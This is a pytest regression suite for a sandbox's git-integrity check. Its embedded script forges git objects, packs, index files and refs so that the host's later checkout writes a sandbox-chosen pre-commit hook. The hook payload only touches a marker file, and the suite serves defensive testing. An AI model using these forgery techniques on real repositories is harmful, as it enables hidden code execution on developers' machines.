# SPDX-License-Identifier: MIT
"""A protected path's tracked content, changed through the object store
itself (and through refs the end-of-run check does not judge).

A protected path (.husky/pre-commit under core.hooksPath = .husky, .envrc,
.vscode/tasks.json, ...) stays read-only in the worktree, and githeads.c
checks, when the sandbox has ended, that the index and the refs changed
during the run hold at protected paths the same (path, mode, object id) as
the host had at the start.  But the project is a write grant and its
.git/objects is the sandbox's to write (gitview.c binds it writable): what
git reads under an object's name is the sandbox's to choose, and git does
not check a blob's content against its name when it checks one out, nor a
tree's when it reads one beneath a commit.  The ids the check compares
stay the host's; the content the host's next checkout writes at that path
is the sandbox's: a hook the next `git commit` runs.

Each test plants, from inside, objects (and in some, a ref), no worktree
file; the sandbox's own git reading its hook under the host's
object id (or path) is the control that the plant was made and is what git
sees (the host's git reads the same store: what it reads is said when the
test fails).  Then the host runs a git command a user runs (a new worktree,
a look at an older commit and back, discarding an edit of its own,
`git stash`, checking out a branch), then a commit, and the test asserts
the host ran nothing (no mark).

Holes (each FAILS on 63c961b, in every mode of the box fixture: root-ns,
root-nons, user-ns, user-nons; githeads.c says nothing unless noted):
  - test_forged_loose_blob_at_the_hosts_name: the loose file of the host's
    blob at .husky/pre-commit replaced by one with other content; git reads
    loose blobs unchecked: `git worktree add`, `git checkout HEAD~1` and
    back, discarding an edit (`git checkout -- FILE`, `git stash`) write
    the sandbox's hook;
  - test_forged_loose_blob_of_another_version_the_host_keeps: the same
    for the hook's blob on another branch of the host's (`git checkout
    old`) or in an edit it stashed before the run (`git stash pop`): what
    neither HEAD nor the index names;
  - test_forged_blob_in_a_new_pack: a pack and .idx the sandbox wrote
    itself (pack-objects would not make such a one) holding its content
    under the host blob's id; git searches packs before loose objects, the
    newest pack (by its mtime, the sandbox's to set) first: whether the
    host's blob is loose or in the pack of the host's own `git gc`;
  - test_pack_index_remapped: the repository packed by git itself
    (pack-objects, the sandbox's blob with the host's objects), then the
    pack's .idx rewritten so that the host blob's id gives the offset of
    the sandbox's blob;
  - test_multi_pack_index_remapped: objects/pack/multi-pack-index (read
    by default, core.multiPackIndex, before each pack's own .idx) written
    by `git multi-pack-index write`, then its offset table edited: the
    host blob's id gives the sandbox's blob;
  - test_forged_hooks_tree: the .husky tree beneath HEAD's root tree
    rewritten under its own id (loose or packed) to name the sandbox's
    blob; with the branch's file written again too, githeads.c reads the
    commit but stops at .husky's id, the host's;
  - test_replace_ref_in_packed_refs_for_the_hosts_blob: refs/replace/<the
    host's blob> naming the sandbox's blob (git applies replacements to
    blobs at checkout too), the ref in packed-refs only: githeads.c judges
    it but undoes it by removing a loose file there is none of ("it could
    NOT be set back");
  - test_new_branch_in_packed_refs_with_no_ancestor_to_set_back_to: the
    same for a new branch with the sandbox's hook and no parent: left in
    packed-refs ("it could NOT be set back"); `git checkout` of it writes
    the hook;
  - test_new_branch_named_like_ringfences_temporary_files: not an object,
    a ref: a new loose branch whose name holds ".ringfence-" is passed
    over by githeads.c (its temporary files' mark); its checkout writes the
    sandbox's hook;
  - test_branch_ref_hidden_from_the_check: refs again: a branch (a new one,
    or the one HEAD is on) whose loose ref is a link to a file holding the
    id, or whose packed-refs line has an empty directory of its name among
    the loose refs, or that is a symbolic ref written "ref:NAME" (no space)
    to a ref in refs/ringfence-blocked (ORIG_HEAD too, without namespaces:
    with them the view does not carry it back): githeads.c judges none,
    git reads all;
  - test_index_cache_tree_for_the_sandboxs_hook: the index the sandbox
    hands back, its entries the host's, its cache tree (TREE extension)
    naming at .husky the sandbox's tree: githeads.c reads the entries
    only, the host's next commit records the sandbox's tree;
  - test_object_planted_for_content_the_host_will_commit: a loose object
    planted under the id of content the host predictably commits later (a
    hook manager's default hook): git keeps an object it already has (it
    only freshens its time), so the host's `git add` records the sandbox's
    content, which its next checkout writes.
Guards (pass on 63c961b): test_guard_replace_ref_for_the_hosts_blob, the
replacement with a loose ref: removed at the end;
test_guard_new_branch_with_the_sandboxs_hook, the branch of the
".ringfence-" test named `lint`: set back to its parent;
test_guard_split_index_with_the_sandboxs_hook: the hook staged in
.git/sharedindex.<id>, the index file holding no entry: the host's index
is put back.

githeads.c's own reader does not look objects up as git does: it takes a
loose object before a pack, packs in directory order, and no
multi-pack-index; git takes the multi-pack-index, then packs (the one it
last found an object in first, then the newest), then loose objects.  A
check that hashed what that reader reads would read, for the same name,
another object than git (test_forged_blob_in_a_new_pack with the host's
blob loose, test_multi_pack_index_remapped).

What git does not fall for (no test: git's own checks, not ringfence's): a
forged commit (git checks the hash of the object a revision names when it
looks it up: "hash mismatch"; the repository's HEAD then no longer
resolves, a denial of service only); a forged root tree mostly not either
(`git status`, `git checkout`, `git worktree add` stop at "hash mismatch",
though `git restore --staged` reads it: test_forged_hooks_tree forges the
tree beneath, which every command reads); a replacement of another type
(a commit whose message is a script, for a blob: "unable to read sha1
file" at checkout); a loose copy of a blob that is also packed (git reads
the pack); a clone over the pack protocol (`git clone --no-local`:
index-pack hashes what it receives).
"""
import os

import pytest

from test_hostfiles_attacks import GIT_ENV, TOUCH, chown_tree, host

EVIL = "#!/bin/sh\n%s\n" % TOUCH

# Run in the sandbox (cwd: the project): plants objects in .git/objects
# under the names of the host's own (or a ref), then prints "planted" if its
# git reads the hook there.  argv[1] the way, argv[2] the hook text,
# argv[3] the predicted text ("preplant") or the blob's name
# ("loose-other").
# The start of each such script (FORGE, and test_gitobjects_round2_attacks'
# FORGE2): the way and the hook, "ran", git as the sandbox runs it.
FORGE_PRELUDE = r'''
import binascii, hashlib, os, struct, subprocess, sys, zlib

way, evil = sys.argv[1], sys.argv[2].encode()
print("ran", flush=True)
for k in ("AUTHOR", "COMMITTER"):
    os.environ["GIT_%s_NAME" % k], os.environ["GIT_%s_EMAIL" % k] = "t", "t@x"


def git(*a, data=None):
    r = subprocess.run(["git"] + list(a), input=data, capture_output=True)
    if r.returncode:
        sys.exit("git %s: %s" % (" ".join(a), r.stderr.decode()))
    return r.stdout


def rev(name):
    return git("rev-parse", name).decode().strip()


def pack_data(objs):
    """A pack of OBJS [(oid, type, body)] under the names given, written by
    hand (pack-objects names what it packs by its content): its bytes, its
    entries (id, crc, offset) sorted, its checksum and the index's fan-out."""
    data = b"PACK" + struct.pack(">II", 2, len(objs))
    ents = []
    for oid, typ, body in objs:
        off, n = len(data), len(body)
        c, n = ({"commit": 1, "tree": 2, "blob": 3}[typ] << 4) | (n & 15), n >> 4
        hdr = b""
        while n:
            hdr += bytes([c | 0x80])
            c, n = n & 0x7f, n >> 7
        rec = hdr + bytes([c]) + zlib.compress(body)
        ents.append((bytes.fromhex(oid), binascii.crc32(rec), off))
        data += rec
    psum = hashlib.sha1(data).digest()
    ents.sort()
    fan = b"".join(struct.pack(">I", sum(1 for e in ents if e[0][0] <= b)) for b in range(256))
    return data + psum, ents, psum, fan

'''
FORGE = FORGE_PRELUDE + r'''

def replace_file(path, data):
    tmp = path + ".rf-tmp"
    with open(tmp, "wb") as f:
        f.write(data)
    os.replace(tmp, path)


def loose(oid, typ, body):
    """OID's loose file, holding BODY whatever its name says."""
    d = os.path.join(".git/objects", oid[:2])
    os.makedirs(d, exist_ok=True)
    replace_file(os.path.join(d, oid[2:]),
                 zlib.compress(b"%s %d\0" % (typ.encode(), len(body)) + body))


def pack(objs):
    """A pack and its version 2 .idx holding OBJS [(oid, type, body)] under
    the names given, written by hand: pack-objects names what it packs by
    its content."""
    data, ents, psum, fan = pack_data(objs)
    idx = b"\xfftOc" + struct.pack(">I", 2) + fan
    idx += b"".join(e[0] for e in ents)
    idx += b"".join(struct.pack(">I", e[1]) for e in ents)
    idx += b"".join(struct.pack(">I", e[2]) for e in ents)
    idx += psum
    idx += hashlib.sha1(idx).digest()
    base = ".git/objects/pack/pack-" + psum.hex()
    replace_file(base + ".pack", data)
    replace_file(base + ".idx", idx)
    # git searches the newest pack first, by its time in seconds: the
    # host's of the same second may come first
    t = os.stat(base + ".pack").st_mtime + 3600
    os.utime(base + ".pack", (t, t))


def remap(buf, oids_at, n, offs_at, width, victim, donor):
    """BUF's table of N sorted object ids at OIDS_AT, and of entries of
    WIDTH bytes at OFFS_AT: VICTIM's entry made DONOR's."""
    ids = [bytes(buf[oids_at + 20 * i:oids_at + 20 * i + 20]) for i in range(n)]
    v, d = ids.index(bytes.fromhex(victim)), ids.index(bytes.fromhex(donor))
    buf[offs_at + width * v:offs_at + width * (v + 1)] = \
        buf[offs_at + width * d:offs_at + width * (d + 1)]


blob = rev("HEAD:.husky/pre-commit") if way != "preplant" else None
if way == "loose":
    loose(blob, "blob", evil)
elif way == "loose-other":
    blob = rev(sys.argv[3])
    loose(blob, "blob", evil)
elif way == "pack":
    # every object, the host's blob's name given the sandbox's content: a
    # command that read a commit from the host's own pack would find the
    # blob there first (git searches the pack it last found one in first)
    objs = []
    for line in git("rev-list", "--objects", "--all").decode().splitlines():
        oid = line[:40]
        typ = git("cat-file", "-t", oid).decode().strip()
        objs.append((oid, typ, evil if oid == blob else git("cat-file", typ, oid)))
    pack(objs)
elif way in ("idx", "midx"):
    donor = git("hash-object", "-w", "--stdin", data=evil).decode().strip()
    # git's own pack of every object, the sandbox's blob with them
    objs = git("rev-list", "--objects", "--all") + donor.encode() + b"\n"
    git("pack-objects", "-q", ".git/objects/pack/pack", data=objs)
    git("prune-packed")
    pdir = ".git/objects/pack"
    if way == "idx":
        name = [n for n in os.listdir(pdir) if n.endswith(".idx")][0]
        with open(os.path.join(pdir, name), "rb") as f:
            buf = bytearray(f.read())
        n = struct.unpack(">I", buf[8 + 255 * 4:8 + 256 * 4])[0]
        oids_at = 8 + 256 * 4
        remap(buf, oids_at, n, oids_at + 24 * n, 4, blob, donor)
        replace_file(os.path.join(pdir, name), bytes(buf))
    else:
        git("multi-pack-index", "write")
        path = os.path.join(pdir, "multi-pack-index")
        with open(path, "rb") as f:
            buf = bytearray(f.read())
        chunks = {}
        for i in range(buf[6]):
            at = 12 + 12 * i
            chunks[bytes(buf[at:at + 4])] = struct.unpack(">Q", buf[at + 4:at + 12])[0]
        oids_at, offs_at = chunks[b"OIDL"], chunks[b"OOFF"]
        n = struct.unpack(">I", buf[chunks[b"OIDF"] + 255 * 4:chunks[b"OIDF"] + 256 * 4])[0]
        remap(buf, oids_at, n, offs_at, 8, blob, donor)
        replace_file(path, bytes(buf))
elif way.startswith("tree-"):
    e = git("hash-object", "-w", "--stdin", data=evil).decode().strip()
    sub = rev("HEAD:.husky")
    body = b"100755 pre-commit\0" + bytes.fromhex(e)
    if way.startswith("tree-loose"):
        loose(sub, "tree", body)
    else:
        pack([(sub, "tree", body)])
    if way.endswith("-ref"):
        # the branch's file written again, same commit: githeads.c then
        # reads that commit's trees at the end
        ref = git("symbolic-ref", "HEAD").decode().strip()
        with open(os.path.join(".git", ref), "rb") as f:
            replace_file(os.path.join(".git", ref), f.read())
elif way in ("replace", "replace-packed"):
    e = git("hash-object", "-w", "--stdin", data=evil).decode().strip()
    git("replace", "-f", blob, e)
    if way == "replace-packed":
        git("pack-refs", "--all")
elif way == "orphan-packed" or ":" in way:
    e = git("hash-object", "-w", "--stdin", data=evil).decode().strip()
    sub = git("mktree", data=b"100755 blob %s\tpre-commit\n" % e.encode()).decode().strip()
    body = git("cat-file", "tree", "HEAD^{tree}")
    at = body.index(b" .husky\0") + 8
    root = git("hash-object", "-w", "-t", "tree", "--stdin",
               data=body[:at] + bytes.fromhex(sub) + body[at + 20:]).decode().strip()
    if ":" in way:
        c = git("commit-tree", root, "-p", "HEAD", "-m", "lint config").decode().strip()
        kind, ref = way.split(":")
        if kind == "branch":
            git("update-ref", "refs/heads/" + ref, c)
        elif kind == "symlink":
            # the ref a link to a file of the worktree holding the id
            with open("lint-id", "w") as f:
                f.write(c + "\n")
            if os.path.lexists(".git/refs/heads/" + ref):
                os.unlink(".git/refs/heads/" + ref)
            os.symlink("../../../lint-id", ".git/refs/heads/" + ref)
        elif kind == "symref":
            # a symbolic ref written "ref:NAME" (git takes any space after
            # the colon, none too), naming one where ringfence keeps what
            # it blocks
            os.makedirs(".git/refs/ringfence-blocked", exist_ok=True)
            with open(".git/refs/ringfence-blocked/" + ref, "w") as f:
                f.write(c + "\n")
            replace_file(".git/" + ref if ref == "ORIG_HEAD" else ".git/refs/heads/" + ref,
                         b"ref:refs/ringfence-blocked/%s\n" % ref.encode())
        else:
            # the ref in packed-refs only, an empty directory of its name
            # among the loose ones
            git("update-ref", "refs/heads/" + ref, c)
            git("pack-refs", "--all")
            os.mkdir(".git/refs/heads/" + ref)
    else:
        c = git("commit-tree", root, "-m", "lint config").decode().strip()
        git("update-ref", "refs/heads/lint", c)
        git("pack-refs", "--all")
elif way == "cache-tree":
    # the index's cache tree (its TREE extension) made for the sandbox's
    # hook, then the entry given back the host's blob: its entries are the
    # host's, the tree git writes from it is not
    e = git("hash-object", "-w", "--stdin", data=evil).decode().strip()
    with open(".git/index", "rb") as f:
        host_index = f.read()
    git("update-index", "--cacheinfo", "100755,%s,.husky/pre-commit" % e)
    git("write-tree")
    with open(".git/index", "rb") as f:
        buf = bytearray(f.read())
    # the entry as the host had it, its file's times, inode and size too
    # (an entry that looks changed would be added again, and the cache
    # tree above it dropped)
    at, was = buf.index(bytes.fromhex(e)), host_index.index(bytes.fromhex(blob))
    buf[at - 40:at + 20] = host_index[was - 40:was + 20]
    buf[-20:] = hashlib.sha1(bytes(buf[:-20])).digest()
    replace_file(".git/index", bytes(buf))
elif way == "split-index":
    # the index split (core.splitIndex's form, honoured whatever the
    # config): the entries in .git/sharedindex.<id>, the index itself
    # holding none but what differs
    e = git("hash-object", "-w", "--stdin", data=evil).decode().strip()
    git("update-index", "--cacheinfo", "100755,%s,.husky/pre-commit" % e)
    git("update-index", "--split-index")
    # written again, split anew: every entry in the shared file
    git("-c", "splitIndex.maxPercentChange=0", "update-index", "--cacheinfo",
        "100644,%s,f" % rev(":f"))
elif way == "preplant":
    future = git("hash-object", "--stdin", data=sys.argv[3].encode()).decode().strip()
    loose(future, "blob", evil)
elif way in ("fanout-link", "pack-dir-link"):
    # objects/xx (the host's loose blob's) or objects/pack (after the
    # host's gc) made a link to a directory of the sandbox's in the
    # project, a copy of the host's with the forgery in it: git follows
    import shutil
    d = ".git/objects/" + (blob[:2] if way == "fanout-link" else "pack")
    shutil.copytree(d, "build-objs")
    shutil.rmtree(d)
    os.symlink("../../build-objs", d)
    if way == "fanout-link":
        loose(blob, "blob", evil)
    else:
        objs = []
        for line in git("rev-list", "--objects", "--all").decode().splitlines():
            oid = line[:40]
            typ = git("cat-file", "-t", oid).decode().strip()
            objs.append((oid, typ, evil if oid == blob else git("cat-file", typ, oid)))
        pack(objs)
# the control: this git reads the sandbox's hook under the host's id (the
# future one's; at HEAD's path; on the sandbox's branch)
if way == "preplant":
    name = future
elif way.startswith("tree-"):
    name = "HEAD:.husky/pre-commit"
elif way == "split-index":
    name = ":.husky/pre-commit"
elif way == "cache-tree":
    name = git("write-tree").decode().strip() + ":.husky/pre-commit"
    if rev(":.husky/pre-commit") != blob:
        name = None
elif way == "orphan-packed":
    name = "lint:.husky/pre-commit"
elif ":" in way:
    name = way.split(":")[1] + ":.husky/pre-commit"
else:
    name = blob
if name and git("cat-file", "-p", name) == evil:
    print("planted", flush=True)
'''

# a hook text the host commits after the run: predictable (a hook
# manager's default, as `husky init` writes "npm test")
FUTURE = "#!/bin/sh\nexit 0\n"


def project(box, packed=False, husky=True):
    """The host's repository in the project: a first commit, then one that
    adds .husky/pre-commit (core.hooksPath = .husky: protected), written
    well before the index (as a hook is: not racily clean, its entry's
    times and size those of the file); PACKED, its objects packed by the
    host's own `git gc`.  Returns the host's
    home and the hook's blob id."""
    home = box.path("hosthome")
    os.mkdir(home)
    chown_tree(box, home)
    h = host(box, ["sh", "-c",
                   "git init -q && git config core.hooksPath .husky && echo x > f && "
                   "git add f && git commit -qm first" +
                   (" && mkdir .husky && printf '#!/bin/sh\\ntrue\\n' > .husky/pre-commit && "
                    "chmod 755 .husky/pre-commit && touch -d 2020-01-01 .husky/pre-commit && "
                    "git add -A && git commit -qm hooks && "
                    "git rev-parse HEAD:.husky/pre-commit" if husky else "") +
                   (" && git gc -q" if packed else "")],
             home, cwd=box.work, env=GIT_ENV)
    assert h.returncode == 0, h.stderr
    return home, h.stdout.strip()


def plant(box, home, way, *extra):
    """The sandbox's run: FORGE's WAY, under default.ini."""
    forge = box.write("bin/forge.py", FORGE)
    r = box.run(["/usr/bin/python3", forge, way, EVIL] + list(extra),
                policy=box.policy(""), env=dict(GIT_ENV, HOME=home))
    assert "planted" in r.stdout.split(), r.stdout + r.stderr
    return r


# How git refuses OP when what the sandbox planted was taken away at the
# end (a forged copy moved aside, with it the only copy of the host's
# object the sandbox had replaced; a ref removed): the repository is then
# short of what the sandbox destroyed, which it could do anyway, and git
# writes nothing of the sandbox's.
REFUSED = ("unable to read", "did not match any file", "bad object", "invalid reference",
           "not a valid object", "unknown revision", "bad revision", "not a tree",
           "does not point to a valid object", "bad tree",
           # a file naming the sandbox's commit beside the refs, removed
           "could not open '.git/FETCH_HEAD'")


def commit_after(box, home, op, name):
    """The host's OP, then a commit (which runs .husky/pre-commit, whatever
    OP left there); the mark must not be there.  What the host's git reads
    under NAME before (the sandbox's hook, where ringfence let it be) said
    if it is.  OP may be refused by git for what ringfence took away, and
    only so."""
    seen = host(box, ["git", "cat-file", "-p", name], home, cwd=box.work, env=GIT_ENV)
    mark = os.path.join(home, "MARK")
    assert not os.path.exists(mark)
    h = host(box, ["sh", "-c", op], home, cwd=box.work, env=GIT_ENV)
    assert h.returncode == 0 or any(x in h.stderr for x in REFUSED), h.stdout + h.stderr
    c = host(box, ["sh", "-c", "cd \"$HOME/wt\" 2>/dev/null; echo y >> f && "
                   "git commit -qam second"], home, cwd=box.work, env=GIT_ENV)
    assert c.returncode == 0, c.stdout + c.stderr
    assert not os.path.exists(mark), \
        "the host's commit ran the hook the sandbox forged (git read %r under %s)" % (
            seen.stdout + seen.stderr, name)


# Host commands after which git writes .husky/pre-commit from its object
# (then the commit runs it from the directory the command leaves).
REWRITE = {
    # a second worktree for a branch (then committed there)
    "worktree": "git worktree add -q \"$HOME/wt\" -b topic && cd \"$HOME/wt\"",
    # a look at an older commit (before the hooks were added), and back
    "checkout-back": "git checkout -q HEAD~1 && git checkout -q -",
    # an edit of its own to the hook, discarded
    "discard-edit": "echo '# tweak' >> .husky/pre-commit && git checkout -- .husky/pre-commit",
    # the same, stashed away
    "stash-edit": "echo '# tweak' >> .husky/pre-commit && git stash -q",
}


@pytest.mark.parametrize("op", sorted(REWRITE))
def test_forged_loose_blob_at_the_hosts_name(box, op):
    """Hole: the host's blob at .husky/pre-commit is a loose object (as
    every commit writes one); the sandbox replaces its file (the directory
    objects/xx is its to write) with other content under the same name.
    The index and HEAD say the same id as at the start: githeads.c finds
    nothing changed.  Every host command that writes the file from its
    object writes the sandbox's hook."""
    home, blob = project(box)
    plant(box, home, "loose")
    with open(os.path.join(box.work, ".husky", "pre-commit")) as f:
        assert "MARK" not in f.read()
    op = REWRITE[op]
    commit_after(box, home, op, blob)


# Where the host keeps, at the start, another version of its hook: the
# setup's commands, the name of that version's blob, the host's command
# that writes it to the worktree.
OTHER = {
    # a branch of its own
    "branch": ("git checkout -q -b old && echo '# old' >> .husky/pre-commit && "
               "git commit -qam old && git checkout -q -",
               "old:.husky/pre-commit", "git checkout -q old"),
    # an edit of its own, stashed
    "stash": ("echo '# mine' >> .husky/pre-commit && git stash -q",
              "stash@{0}:.husky/pre-commit", "git stash pop -q"),
}


@pytest.mark.parametrize("where", sorted(OTHER))
def test_forged_loose_blob_of_another_version_the_host_keeps(box, where):
    """Hole: the same, for a version of the hook that neither HEAD nor the
    index holds: on another branch of the host's, or in an edit it stashed
    before the run.  Its blob is the sandbox's to rewrite as well; the
    host's `git checkout old`, `git stash pop` write the sandbox's hook."""
    setup, name, op = OTHER[where]
    home, _ = project(box)
    h = host(box, ["sh", "-c", setup], home, cwd=box.work, env=GIT_ENV)
    assert h.returncode == 0, h.stdout + h.stderr
    plant(box, home, "loose-other", name)
    commit_after(box, home, op, name)


@pytest.mark.parametrize("packed", [False, True], ids=["host-loose", "host-packed"])
def test_forged_blob_in_a_new_pack(box, packed):
    """Hole: a pack and its .idx written by the sandbox, holding its hook
    under the id of the host's blob.  git looks in packs before loose
    objects, the newest pack first: whether the host's blob is loose or in
    the pack of the host's own `git gc`, the sandbox's content is what git
    reads, and a new worktree gets it."""
    home, blob = project(box, packed=packed)
    plant(box, home, "pack")
    commit_after(box, home, REWRITE["worktree"], blob)


def test_pack_index_remapped(box):
    """Hole: the sandbox repacks the repository (`git repack -ad`: its
    own blob with the host's objects) and rewrites the pack's .idx so that
    the host blob's id gives the offset of the sandbox's blob.  Nothing
    githeads.c compares changed."""
    home, blob = project(box)
    plant(box, home, "idx")
    commit_after(box, home, REWRITE["checkout-back"], blob)


def test_multi_pack_index_remapped(box):
    """Hole: objects/pack/multi-pack-index, which git 2.39 reads by default
    (core.multiPackIndex) before each pack's own .idx, written by the
    sandbox (`git multi-pack-index write`) and then its offset table
    edited: the host blob's id gives the sandbox's blob.  The packs and
    their indexes are git's own."""
    home, blob = project(box)
    plant(box, home, "midx")
    commit_after(box, home, REWRITE["worktree"], blob)


@pytest.mark.parametrize("way", ["tree-loose", "tree-pack", "tree-loose-ref", "tree-pack-ref"])
def test_forged_hooks_tree(box, way):
    """Hole: the tree HEAD's root tree names at .husky rewritten under its
    own id to name the sandbox's blob at pre-commit (HEAD's commit and root
    tree stay: git checks the hash of an object it looks a revision up by,
    not of a tree it reads beneath one).  The index's cache tree names the
    same tree, so `git status` shows nothing; a new worktree (its index
    made from HEAD's trees) gets the sandbox's hook.  githeads.c reads
    HEAD's commit again only when a ref or HEAD changed: it says nothing.
    With the branch's file written again (-ref, the same commit), it reads
    the commit's trees down to .husky, finds there the host's id, and
    stops: it says nothing either."""
    home, _ = project(box)
    plant(box, home, way)
    commit_after(box, home, REWRITE["worktree"], "HEAD:.husky/pre-commit")


def test_guard_replace_ref_for_the_hosts_blob(box):
    """Guard (passes on 63c961b): refs/replace/<the host's blob id> naming
    the sandbox's blob (`git replace`).  git applies a replacement to every
    object it reads, a blob at checkout included (the sandbox's own git
    reads its hook under the host's id: the control); githeads.c takes the
    new ref for one that must name a commit passing the check, and removes
    it.  (A replacement of another type, a commit whose message is a
    script, git itself refuses at checkout: "unable to read sha1 file".)"""
    home, blob = project(box)
    plant(box, home, "replace")
    commit_after(box, home, REWRITE["worktree"], blob)


def test_replace_ref_in_packed_refs_for_the_hosts_blob(box):
    """Hole: the replacement of the test above, its ref in packed-refs only
    (`git pack-refs --all`).  githeads.c finds the new line and judges it,
    but it undoes a ref it cannot set back by removing its loose file: there
    is none, the line stays ("it could NOT be set back"), and git reads the
    sandbox's blob for the host's at every checkout."""
    home, blob = project(box)
    plant(box, home, "replace-packed")
    commit_after(box, home, REWRITE["worktree"], blob)


def test_new_branch_in_packed_refs_with_no_ancestor_to_set_back_to(box):
    """Hole: the same for a branch: a new one (`lint`), only in
    packed-refs, whose commit has the sandbox's .husky/pre-commit and no
    parent.  githeads.c judges it, finds no ancestor to set it back to,
    removes no loose file (there is none): the branch stays, and the
    host's `git checkout lint` writes the hook (a warning said it)."""
    home, _ = project(box)
    r = plant(box, home, "orphan-packed")
    assert "refs/heads/lint" in r.stderr, r.stderr
    # the host checks the branch out if it is there
    commit_after(box, home, "{ ! git rev-parse -q --verify lint || git checkout -q lint; }",
                 "lint:.husky/pre-commit")


def test_guard_new_branch_with_the_sandboxs_hook(box):
    """Guard (passes on 63c961b), and the control of the test below: a new
    loose branch `lint` whose commit has the sandbox's .husky/pre-commit
    is set back to its parent (HEAD's commit): `git checkout lint` writes
    the host's hook."""
    home, _ = project(box)
    plant(box, home, "branch:lint")
    commit_after(box, home, "git checkout -q lint", "lint:.husky/pre-commit")


def test_new_branch_named_like_ringfences_temporary_files(box):
    """Hole: githeads.c's walk of the loose refs passes over every name
    holding ".ringfence-" (meant for its own temporary files,
    NAME.ringfence-tmp): the branch of the guard above named
    `lint.ringfence-1` is not judged, and the host's checkout of it writes
    the sandbox's hook."""
    home, _ = project(box)
    plant(box, home, "branch:lint.ringfence-1")
    commit_after(box, home, "git checkout -q lint.ringfence-1",
                 "lint.ringfence-1:.husky/pre-commit")


# A branch's ref made so that githeads.c does not judge it: its kind, the
# host's command that then writes the sandbox's hook.
HIDDEN_REFS = {
    # a new branch, its loose ref a link (not a file: passed over) to a
    # file holding the commit's id; git follows the link
    "symlink-new": ("symlink:lint", "git checkout -q lint"),
    # the branch HEAD is on, so: the host's status shows the hook staged,
    # and discarding that (`git reset --hard`) writes it
    "symlink-head": ("symlink:master", "git reset -q --hard"),
    # a new branch in packed-refs, with an empty directory of its name
    # among the loose refs: githeads.c takes the loose one for what git
    # reads and skips the line; git, finding a directory, reads the line
    "packed-behind-directory-new": ("packed-dir:lint", "git checkout -q lint"),
    "packed-behind-directory-head": ("packed-dir:master", "git reset -q --hard"),
    # a symbolic ref written "ref:NAME", no space (githeads.c takes
    # "ref: NAME" only), naming a ref in refs/ringfence-blocked (which it
    # does not judge)
    "symref-new": ("symref:lint", "git checkout -q lint"),
    "symref-head": ("symref:master", "git reset -q --hard"),
    # ORIG_HEAD so: the usual undo (`git reset --hard ORIG_HEAD`) takes it
    # (with namespaces the view does not carry it back: nothing to undo to)
    "symref-orig-head": ("symref:ORIG_HEAD", "{ ! git rev-parse -q --verify ORIG_HEAD || "
                         "git reset -q --hard ORIG_HEAD; }"),
}


@pytest.mark.parametrize("how", sorted(HIDDEN_REFS))
def test_branch_ref_hidden_from_the_check(box, how):
    """Hole: a commit of the sandbox's with its .husky/pre-commit (a child
    of HEAD's: it would be set back to HEAD's commit if judged) on a branch
    whose ref githeads.c does not judge (HIDDEN_REFS): a loose ref that is a
    link (check_ref_file takes regular files only), a packed-refs line
    behind a directory of the same name (check_packed skips a line whose
    name exists loose), or a symbolic ref written "ref:NAME" (read_ref
    takes "ref: " only: neither an id nor a symbolic ref to it) to a ref
    under refs/ringfence-blocked (passed over); ORIG_HEAD written so too.
    git reads them all; the host's checkout of the branch, its `git reset
    --hard` on the branch HEAD is on, or to ORIG_HEAD, writes the hook."""
    way, op = HIDDEN_REFS[how]
    home, _ = project(box)
    plant(box, home, way)
    commit_after(box, home, op, way.split(":")[1] + ":.husky/pre-commit")


def test_index_cache_tree_for_the_sandboxs_hook(box):
    """Hole: not an object, the index: its entries are the host's (what
    githeads.c reads of it), its cache tree (the TREE extension, which git
    trusts for every subtree no entry beneath has changed since) names at
    .husky a tree with the sandbox's hook.  The host's next commit of its
    own work (`git commit -a`, or `git add` and `git commit`) records that
    tree; its next checkout of that commit (here a new worktree) writes the
    hook."""
    home, _ = project(box)
    plant(box, home, "cache-tree")
    commit_after(box, home, "echo z >> f && git commit -qam work && " + REWRITE["worktree"],
                 ":.husky/pre-commit")


def test_guard_split_index_with_the_sandboxs_hook(box):
    """Guard (passes on 63c961b): the index split (`git update-index
    --split-index`, then written again so that every entry is in
    .git/sharedindex.<id> and the index file holds none but a link to it).
    git reads both, whatever core.splitIndex says; the sandbox's hook is
    staged in the shared part.  ringfence puts the host's index back (and
    says so): `git reset --hard`, discarding what would show staged, writes
    the host's hook."""
    home, _ = project(box)
    plant(box, home, "split-index")
    commit_after(box, home, "git reset -q --hard", ":.husky/pre-commit")


def test_object_planted_for_content_the_host_will_commit(box):
    """Hole: nothing at .husky during the run (the repository's hooks path
    is set, the hook not yet written).  The sandbox writes a loose object
    under the id of the hook the host predictably commits later (a hook
    manager's default hook), with its own content.  git does not write an
    object it already has, it only freshens its time: the host's
    `git add` records the sandbox's object, and its next checkout of that
    commit (here a second worktree) writes the sandbox's hook.  No check at
    the end of the run can see it: the host has not made that commit
    yet."""
    home, _ = project(box, husky=False)
    r = plant(box, home, "preplant", FUTURE)
    with open(box.path("future"), "w") as f:
        f.write(FUTURE)
    h = host(box, ["sh", "-c", "mkdir .husky && cp %s .husky/pre-commit && "
                   "chmod 755 .husky/pre-commit && git add .husky && git commit -qm hooks"
                   % box.path("future")], home, cwd=box.work, env=GIT_ENV)
    assert h.returncode == 0, h.stdout + h.stderr + r.stderr
    commit_after(box, home, REWRITE["worktree"], "HEAD:.husky/pre-commit")


@pytest.mark.parametrize("way", ["fanout-link", "pack-dir-link"])
def test_object_directory_made_a_link(box, way):
    """Hole: objects/xx (where the host's hook blob is loose) or
    objects/pack (the host's objects packed) replaced by a link to a
    directory of the sandbox's holding the forgery: the reader here opens
    nothing through a link, git follows it.  The end moves the link aside;
    the host's git then reads no sandbox content under the host's name
    (the objects the sandbox moved away are missing: its doing).  Checked
    with git cat-file, not a commit: the repository may be left without
    HEAD's objects, and a commit that cannot start would prove nothing."""
    home, blob = project(box, packed=way == "pack-dir-link")
    plant(box, home, way)
    d = os.path.join(box.work, ".git", "objects", blob[:2] if way == "fanout-link" else "pack")
    assert not os.path.islink(d), "the link git follows is still there"
    h = host(box, ["git", "cat-file", "-p", blob], home, cwd=box.work, env=GIT_ENV)
    assert "MARK" not in h.stdout, "the host's git reads the sandbox's hook under its name"
